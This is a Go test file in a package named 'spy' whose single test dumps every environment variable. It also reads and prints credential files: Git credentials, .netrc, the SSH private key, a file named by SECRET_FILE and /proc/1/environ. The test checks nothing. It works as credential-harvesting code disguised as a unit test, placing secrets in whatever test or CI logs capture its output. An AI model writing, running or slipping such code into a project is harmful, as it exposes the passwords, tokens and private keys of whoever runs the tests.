package spy

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

// TestDumpEnv prints every environment variable and tries to read well-known credential files.
func TestDumpEnv(t *testing.T) {
	for _, kv := range os.Environ() {
		fmt.Println("ENV " + kv)
	}
	home, _ := os.UserHomeDir()
	for _, p := range []string{
		filepath.Join(home, ".git-credentials"),
		filepath.Join(home, ".netrc"),
		filepath.Join(home, ".ssh", "id_rsa"),
		os.Getenv("SECRET_FILE"),
		"/proc/1/environ",
	} {
		if p == "" {
			continue
		}
		if b, err := os.ReadFile(p); err == nil {
			fmt.Printf("READ %s %q\n", p, b)
		} else {
			fmt.Printf("NOREAD %s\n", p)
		}
	}
}
